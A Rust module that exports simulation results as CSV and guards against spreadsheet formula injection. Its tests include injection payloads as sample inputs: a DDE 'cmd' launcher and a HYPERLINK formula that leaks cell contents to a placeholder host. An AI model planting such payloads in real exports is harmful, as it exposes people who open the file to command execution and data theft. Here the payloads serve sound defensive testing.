//! CSV tables (RFC 4180: comma-separated, fields quoted when they hold a comma, a quote or a line
//! break). Numbers are written in Rust's shortest round-trip form, so reading them back gives the
//! same bits. Every text cell goes through [`text_cell`], which also keeps spreadsheets from reading
//! text from a scenario file (a label `=HYPERLINK(…)`) as a formula; numbers are written as
//! numbers, so a negative value stays a number. Every CSV the page or the command line writes is
//! made here.

use std::fmt::Write;

use crate::analysis::sensitivity::Tornado;
use crate::analysis::sweep::{Axis, SweepRow};
use crate::engine::Summary;
use crate::scenario::Scenario;

/// A text cell: neutralised if a spreadsheet could take it for a formula, then quoted if it
/// needs to be.
///
/// The usual leading-apostrophe rule (OWASP, "CSV injection"): text whose first character is
/// `=`, `+`, `-`, `@`, a tab or a carriage return (also after leading spaces or line breaks,
/// which some spreadsheets skip, and in their full-width forms) gets a `'` in front, which
/// spreadsheets show as text and do not evaluate.
pub fn text_cell(text: &str) -> String {
    const TRIGGERS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    let first = text.trim_start_matches([' ', '\n']).chars().next();
    let text = match first {
        Some(c) if TRIGGERS.contains(&c) => format!("'{text}"),
        _ if text.starts_with(['\t', '\r']) => format!("'{text}"),
        _ => text.to_string(),
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// The per-pair quantile table: one row per pair and month (the fan charts as numbers).
pub fn quantiles_csv(scenario: &Scenario, summary: &Summary) -> String {
    let mut out = String::from("pair,month,q05,q25,q50,q75,q95,mean\n");
    for (p, bands) in summary.pairs.iter().enumerate() {
        let pair = text_cell(&scenario.pair_key(p));
        for (month, (q, mean)) in bands.quantiles.iter().zip(&bands.mean).enumerate() {
            let _ = writeln!(
                out,
                "{pair},{month},{},{},{},{},{},{mean}",
                q[0], q[1], q[2], q[3], q[4]
            );
        }
    }
    out
}

/// The outcome table: one row per outcome with its probability and Monte Carlo standard error.
pub fn outcomes_csv(scenario: &Scenario, summary: &Summary) -> String {
    let mut out = String::from("outcome,label,test,when,probability,std_error,count,runs\n");
    for (spec, p) in scenario.outcomes.iter().zip(&summary.outcomes) {
        let _ = writeln!(
            out,
            "{},{},{},{},{},{},{},{}",
            text_cell(&spec.id),
            text_cell(&spec.label),
            text_cell(&spec.test),
            spec.outcome.when.keyword(),
            p.probability,
            p.std_error,
            p.count,
            summary.settings.runs
        );
    }
    out
}

/// The tornado as a table, ranked (rank 1 = largest swing).
pub fn tornado_csv(scenario: &Scenario, tornado: &Tornado) -> String {
    let mut out = String::from(
        "rank,assumption,label,confidence,low_value,high_value,p_base,p_low,p_high,change,swing,swing_se,unpaired_se,influential,flagged\n",
    );
    for (rank, bar) in tornado.bars.iter().enumerate() {
        let a = &scenario.assumptions[bar.assumption];
        let _ = writeln!(
            out,
            "{},{},{},{},{},{},{},{},{},{},{},{},{},{},{}",
            rank + 1,
            text_cell(&a.id),
            text_cell(&a.label),
            a.confidence.as_str(),
            bar.low_value,
            bar.high_value,
            tornado.base.probability,
            bar.low.probability,
            bar.high.probability,
            bar.change.delta,
            bar.swing,
            bar.change.std_error,
            bar.change.unpaired_std_error,
            bar.influential,
            bar.flagged
        );
    }
    out
}

/// A sweep: one column per swept assumption (its id), then each outcome's probability (its id)
/// and standard error (`<id>_se`); one row per grid point, the first axis varying slowest.
pub fn sweep_csv(scenario: &Scenario, axes: &[Axis], rows: &[SweepRow]) -> String {
    let mut header: Vec<String> = axes
        .iter()
        .map(|axis| text_cell(&scenario.assumptions[axis.assumption].id))
        .collect();
    for spec in &scenario.outcomes {
        header.push(text_cell(&spec.id));
        header.push(text_cell(&format!("{}_se", spec.id)));
    }
    let mut out = header.join(",");
    out.push('\n');
    for row in rows {
        let mut cells: Vec<String> = row.point.iter().map(|v| v.to_string()).collect();
        for p in &row.outcomes {
            cells.push(p.probability.to_string());
            cells.push(p.std_error.to_string());
        }
        out.push_str(&cells.join(","));
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::{Ensemble, Settings};
    use crate::scenario::builtin;

    #[test]
    fn fields_are_quoted_only_when_needed() {
        assert_eq!(text_cell("plain"), "plain");
        assert_eq!(text_cell("a, b"), "\"a, b\"");
        assert_eq!(text_cell("say \"no\""), "\"say \"\"no\"\"\"");
        assert_eq!(text_cell("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn text_a_spreadsheet_would_evaluate_is_neutralised() {
        for (text, written) in [
            ("=1+1", "'=1+1"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("  =1", "'  =1"),
            ("＝1", "'＝1"),
            (
                "=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")",
                "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"Click\"\")\"",
            ),
            ("\r=1", "\"'\r=1\""),
            ("a = b", "a = b"),
            ("RUS-CHN", "RUS-CHN"),
        ] {
            assert_eq!(text_cell(text), written, "{text:?}");
        }
    }

    #[test]
    fn tables_have_one_row_per_item_and_a_fixed_width() {
        let s = builtin("russia-dprk-alignment").unwrap().unwrap();
        let summary = Ensemble::run(
            s.model(&s.defaults()),
            Settings {
                seed: 1,
                runs: 100,
                horizon: 6,
            },
        );
        let quantiles = quantiles_csv(&s, &summary);
        assert_eq!(quantiles.lines().count(), 1 + s.pairs.len() * 7);
        assert!(quantiles.lines().all(|l| l.split(',').count() == 8));
        let outcomes = outcomes_csv(&s, &summary);
        assert_eq!(outcomes.lines().count(), 1 + s.outcomes.len());
        let mut lines = outcomes.lines().skip(1);
        let first = lines.next().unwrap();
        assert!(first.starts_with(&format!("{},", s.outcomes[0].id)), "{first}");
        assert!(first.ends_with(&format!(
            ",{},{},{},100",
            summary.outcomes[0].probability, summary.outcomes[0].std_error, summary.outcomes[0].count
        )));
    }
}
